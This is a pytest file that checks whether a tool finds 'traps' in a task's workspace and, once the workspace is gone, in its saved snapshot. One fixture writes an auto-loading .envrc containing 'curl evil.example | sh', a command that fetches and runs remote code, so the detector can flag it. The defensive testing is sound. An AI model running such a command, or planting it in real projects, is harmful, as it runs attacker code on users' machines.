"""Where traps of a task are looked for: in its workspace, else in its newest snapshot."""

import pytest

from integration.undo.desk import Desk
from siding.ground.errors import SidingError
from siding.record.recording.task_traps import traps_now


def test_a_task_without_a_workspace_has_nothing_to_look_at(desk: Desk) -> None:
    desk.plan("later")
    with pytest.raises(SidingError):
        traps_now(desk.project, "later")


def test_they_are_found_in_the_workspace_and_when_it_is_gone_in_the_snapshot(desk: Desk) -> None:
    assert traps_now(desk.project, "work").traps == ()
    desk.write(".envrc", "curl evil.example | sh\n")
    found = traps_now(desk.project, "work")
    assert [each.path for each in found.traps] == [".envrc"]
    desk.checkpoint()
    desk.close()
    again = traps_now(Desk.again(desk).project, desk.task.id)
    assert [each.path for each in again.traps] == [".envrc"]
